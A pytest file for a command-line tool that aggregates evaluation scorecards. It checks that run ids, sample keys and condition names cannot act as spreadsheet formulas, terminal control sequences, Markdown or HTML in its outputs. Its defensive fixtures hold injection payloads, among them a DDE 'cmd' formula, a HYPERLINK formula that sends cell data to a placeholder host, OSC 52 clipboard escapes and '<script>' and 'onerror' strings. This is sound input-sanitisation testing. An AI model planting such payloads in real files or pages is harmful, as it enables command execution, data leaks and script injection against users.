"""Names from the input never act where they are written (issue #17, items 3, 4, 5).

Run ids, sample keys and conditions are whatever the scorecards hold. In a spreadsheet they
must not run as formulas (``--spreadsheet-safe``), on a terminal they must not send control
sequences, and in Markdown they must not add columns, rows, headings or markup.
"""

from __future__ import annotations

import csv
import io
import json
import re
from itertools import groupby
from pathlib import Path

import polars as pl
import pytest

from aggregator.text import FORMULA_PREFIX, FORMULA_STARTS, is_number, md_code, md_text, printable
from tests.conftest import run_cli
from tests.scorecard_rows import item, row, write_rows

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tq", "\rr",
            "＝1+1"]
TERMINAL = "\x1b]0;pwned\x07\x1b[2J\x9b31m\r\u202eevil"
MARKDOWN = "a|b\nc `d` <script>x</script> *e* [f](javascript:g) # h"
CSV_FILES = ("runs.csv", "conditions.csv", "paired.csv", "flips.csv", "self_consistency.csv", "per_sample_merged.csv")


def hostile_run(path: Path, run_id: str, keys: list[str], flip: int) -> Path:
    rows = [row(key, gold=[item("본품#일반", f"t{j}")], final=[item("본품#일반", f"t{j}" if (j + flip) % 3 else "x")],
                run_id=run_id) for j, key in enumerate(keys)]
    return write_rows(path / "scorecards.jsonl", rows)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Four runs in two conditions named by formulas, control sequences and Markdown, keyed by formulas."""
    root = tmp_path_factory.mktemp("hostile")
    keys = [*FORMULAS, TERMINAL, MARKDOWN, "plain"]
    conditions = [FORMULAS[0] + TERMINAL, MARKDOWN]
    return [hostile_run(root / f"run{i}", f"{conditions[i % 2]}__seed{i}", keys, i) for i in range(4)]


def cells(data: bytes) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in line]


def runs_formula(cell: str) -> bool:
    return cell[:1] in tuple(FORMULA_STARTS) and not is_number(cell)


def test_csv_and_parquet_stay_exact_by_default(hostile: list[Path], tmp_path: Path) -> None:
    done = run_cli(hostile[0], "--outdir", tmp_path / "run", "--quiet")
    assert done.returncode == 0, done.stderr
    keys = pl.read_csv(tmp_path / "run" / "per_sample.csv", infer_schema=False).get_column("sample_key").to_list()
    assert set(FORMULAS) <= set(keys)
    assert pl.read_parquet(tmp_path / "run" / "per_sample.parquet").get_column("sample_key").to_list() == keys


def test_spreadsheet_safe_csv_cells_never_start_a_formula(hostile: list[Path], tmp_path: Path) -> None:
    run = run_cli(hostile[0], "--outdir", tmp_path / "run", "--quiet", "--spreadsheet-safe")
    compare = run_cli("compare", *hostile, "--outdir", tmp_path / "cmp", "--resamples", "20", "-q", "--spreadsheet-safe")
    assert run.returncode == compare.returncode == 0, run.stderr + compare.stderr
    files = [tmp_path / "run" / "per_sample.csv", *(tmp_path / "cmp" / name for name in CSV_FILES)]
    for path in files:
        found = cells(path.read_bytes())
        assert not [cell for cell in found if runs_formula(cell)], path.name
    keys = pl.read_csv(files[0], infer_schema=False).get_column("sample_key").to_list()
    assert {FORMULA_PREFIX + key for key in FORMULAS} <= set(keys)
    merged = pl.read_csv(tmp_path / "cmp" / "per_sample_merged.csv", infer_schema=False)
    assert any(name.startswith(FORMULA_PREFIX + "=HYPERLINK") for name in merged.columns)
    exact = pl.read_parquet(tmp_path / "run" / "per_sample.parquet").get_column("sample_key").to_list()
    assert set(FORMULAS) <= set(exact)
    assert json.loads((tmp_path / "run" / "run_metadata.json").read_text())["spreadsheet_safe"] is True


def only_printable(text: str) -> bool:
    return all(ch.isprintable() or ch == "\n" for ch in text)


def test_nothing_printed_to_the_terminal_holds_a_control_character(hostile: list[Path], tmp_path: Path) -> None:
    """Summary lines, comparison notes, JSON, skipped lines and error lines."""
    skipping = hostile_run(tmp_path / "skipping", TERMINAL, ["k1", "k2"], 0)
    with open(skipping, "a", encoding="utf-8") as handle:
        handle.write(json.dumps({"meta": {"text_id": TERMINAL}, "gold_tuples": [{"polarity": TERMINAL}]}) + "\n")
    outputs = [
        run_cli(hostile[0], "--outdir", tmp_path / "a"),
        run_cli(skipping, "--outdir", tmp_path / "b", "--skip-bad-lines"),
        run_cli(hostile[0], "--outdir", tmp_path / "c", "--json"),
        run_cli("compare", *hostile, "--outdir", tmp_path / "d", "--resamples", "20"),
        run_cli("compare", *hostile, "--outdir", tmp_path / "e", "--resamples", "20", "--json"),
        run_cli(tmp_path / TERMINAL, "--outdir", tmp_path / "f"),
        run_cli(hostile[0], "--outdir", tmp_path / TERMINAL / "x", "--quiet", "--json"),
    ]
    for done in outputs:
        assert "Traceback" not in done.stderr, done.stderr
        assert only_printable(done.stdout) and only_printable(done.stderr), (done.stdout + done.stderr)[:500]
    assert printable(TERMINAL) in outputs[0].stdout and printable(TERMINAL) in outputs[1].stderr
    assert json.loads(outputs[2].stdout)["runs"][0]["run_ids"] == [f"{FORMULAS[0]}{TERMINAL}__seed0"]
    assert outputs[5].returncode == 2 and printable(TERMINAL) in outputs[5].stderr


TABLE_ROW = re.compile(r"^\|.*\|$")


def table_blocks(markdown: str) -> list[list[str]]:
    """The runs of consecutive lines that start with ``|``."""
    return [list(lines) for is_table, lines in groupby(markdown.split("\n"), lambda line: line.startswith("|")) if is_table]


def columns(line: str) -> int:
    """Cells of a GFM table row: ``|`` not escaped by a backslash separates them."""
    return len(re.findall(r"(?<!\\)\|", line)) - 1


def test_markdown_tables_keep_their_shape_whatever_the_names(hostile: list[Path], tmp_path: Path) -> None:
    assert run_cli("compare", *hostile, "--outdir", tmp_path / "cmp", "--resamples", "20", "-q").returncode == 0
    assert run_cli(hostile[1], "--outdir", tmp_path / "run", "--quiet").returncode == 0
    comparison = (tmp_path / "cmp" / "comparison.md").read_text(encoding="utf-8")
    blocks = table_blocks(comparison)
    assert len(blocks) >= 3
    for block in blocks:
        assert all(TABLE_ROW.match(line) and columns(line) == columns(block[0]) for line in block), block
    headings = [line for line in comparison.split("\n") if line.startswith("#")]
    assert all(line.startswith(("# Run comparison", "## ", "### ")) for line in headings), headings
    assert "<script>" not in comparison.replace(md_code(MARKDOWN), "").replace(md_code(MARKDOWN, in_table=True), "")
    table = (tmp_path / "run" / "structural_metrics_table.md").read_text(encoding="utf-8")
    first, _, rest = table.partition("\n")
    assert first == f"# Structural metrics — {md_code(MARKDOWN + '__seed1')}"
    spans = (md_code(MARKDOWN + "__seed1"), md_code(MARKDOWN), md_code(MARKDOWN, in_table=True))
    for span in spans:  # the run id, and the sample key in the examples of the error anatomy
        rest = rest.replace(span, "")
    assert "<script>" not in rest


@pytest.mark.parametrize("name", [MARKDOWN, "``x``", "` y", "| a |", "", " ", "plain"])
def test_a_code_span_holds_any_name_on_one_line(name: str) -> None:
    span = md_code(name, in_table=True)
    assert "\n" not in span and "|" not in span.replace("\\|", "")
    fence = re.match(r"`+", span)
    assert name == "" or fence and span.endswith(fence.group()) and fence.group() not in span[len(fence.group()):-len(fence.group())]


def test_prose_escapes_every_markup_character() -> None:
    text = md_text("1. a_b _c_ *d* [e](f) <g> `h` | i ~j~ &amp;\n# k")
    newline = "\\\\n"  # the newline as its escape \\n, whose backslash is escaped in turn
    assert text == "1\\. a_b \\_c\\_ \\*d\\* \\[e\\](f) \\<g\\> \\`h\\` \\| i \\~j\\~ \\&amp;" + newline + "# k"


FORGED = "r\nforged: 999 rows, 999 with gold"


def test_a_newline_in_a_name_forges_no_line(tmp_path: Path) -> None:
    """A newline in a run id printed as a line of its own in the ``aggregate RUN`` and ``compare`` summaries
    (issue #25): each printed line is escaped whole, so the name shows as ``r\\nforged…`` on its line."""
    runs = [hostile_run(tmp_path / f"run{i}", f"{FORGED if i % 2 else 'base'}__seed{i}", ["k1", FORGED, "k3"], i)
            for i in range(4)]
    outputs = [
        run_cli(runs[1], "--outdir", tmp_path / "a"),
        run_cli(runs[1], runs[3], "--outdir", tmp_path / "b"),
        run_cli("compare", *runs, "--outdir", tmp_path / "c", "--resamples", "20"),
        run_cli("samples", runs[1]),
        run_cli(runs[1], "--outdir", tmp_path / "x\nforged: error"),
    ]
    for done in outputs:
        assert done.returncode in (0, 2) and "Traceback" not in done.stderr, done.stderr
        lines = (done.stdout + done.stderr).splitlines()
        assert not [line for line in lines if line.lstrip(" │|").startswith("forged")], lines
    assert printable(FORGED + "__seed1") in outputs[0].stdout and printable(FORGED) in outputs[2].stdout
    assert printable(FORGED) in outputs[3].stdout


def test_score_per_sentence_csv_is_spreadsheet_safe_on_request(tmp_path: Path) -> None:
    """``score --outdir`` wrote sentence keys starting a formula into per_sentence.csv, with no way to guard them."""
    lines = [json.dumps({"id": key, "sentence_form": "s", "annotation": [["본품#품질", [None, 0, 0], "positive"]]},
                        ensure_ascii=False) for key in FORMULAS]
    gold = tmp_path / "gold.jsonl"
    gold.write_text("\n".join(lines) + "\n", encoding="utf-8")
    exact = run_cli("score", gold, gold, "--format", "nikluge", "--outdir", tmp_path / "exact", "-q")
    safe = run_cli("score", gold, gold, "--format", "nikluge", "--outdir", tmp_path / "safe", "-q", "--spreadsheet-safe")
    assert exact.returncode == safe.returncode == 0, exact.stderr + safe.stderr
    keys = pl.read_csv(tmp_path / "exact" / "per_sentence.csv", infer_schema=False).get_column("key").to_list()
    assert keys == FORMULAS
    for name in ("per_sentence.csv", "units.csv"):
        assert not [cell for cell in cells((tmp_path / "safe" / name).read_bytes()) if runs_formula(cell)], name
    assert pl.read_parquet(tmp_path / "safe" / "per_sentence.parquet").get_column("key").to_list() == FORMULAS
    assert json.loads((tmp_path / "safe" / "score.json").read_text())["provenance"]["spreadsheet_safe"] is True


CAPTION = "x\n\n# Owned <script>alert(1)</script><img src=x onerror=alert(1)> [l](javascript:alert(1)) \x1b]52;c;aGk=\x07"


def test_names_in_the_paper_caption_and_tex_are_escaped(tmp_path: Path) -> None:
    """``paper.md`` wrote condition names raw into its caption (a heading, ``<script>``, ``<img onerror>``, a
    ``javascript:`` link, ESC / OSC 52), and control characters and blank lines reached ``paper.tex``."""
    runs = [hostile_run(tmp_path / f"run{i}", f"{CAPTION if i % 2 else 'base'}__seed{i}", ["k1", "k2", "k3"], i)
            for i in range(4)]
    done = run_cli("compare", *runs, "--outdir", tmp_path / "c", "--resamples", "20", "-q", "--paper", "--paper-cells", "sd")
    assert done.returncode == 0, done.stderr
    markdown = (tmp_path / "c" / "paper.md").read_text(encoding="utf-8")
    tex = (tmp_path / "c" / "paper.tex").read_text(encoding="utf-8")
    for text in (markdown, tex):
        assert only_printable(text) and "\n\n\n" not in text
    [caption] = [line for line in markdown.split("\n") if line.startswith("Table: ")]
    assert md_text(printable(CAPTION)) in caption
    for raw in ("<script>", "<img", "](javascript:", "[l]"):
        assert not re.search(r"(?<!\\)" + re.escape(raw), caption), raw  # only backslash-escaped
    assert not [line for line in markdown.split("\n") if line.startswith("#")]
    assert "\\caption{" in tex and not [line for line in tex.split("\n") if not line.strip()][:-1]


def test_no_name_can_reorder_the_run_report(hostile: list[Path], tmp_path: Path) -> None:
    """A U+202E in a run id or sample key reached the page raw (issue #25): the markup shows it as its escape
    inside ``<bdi>``, and the sample table's keys are escaped in the page's data."""
    from aggregator.report.html import name_html
    from tests.test_report import markup, report_data

    assert run_cli(hostile[0], "--outdir", tmp_path / "run", "--quiet").returncode == 0
    page = (tmp_path / "run" / "report.html").read_bytes()
    shown = markup(page)
    assert "\u202e" not in shown and "\x1b" not in shown
    assert f"<h1>{name_html(f'{FORMULAS[0]}{TERMINAL}__seed0')}" in shown
    keys = report_data(page)["samples"]["key"]
    assert printable(TERMINAL) in keys and TERMINAL not in keys
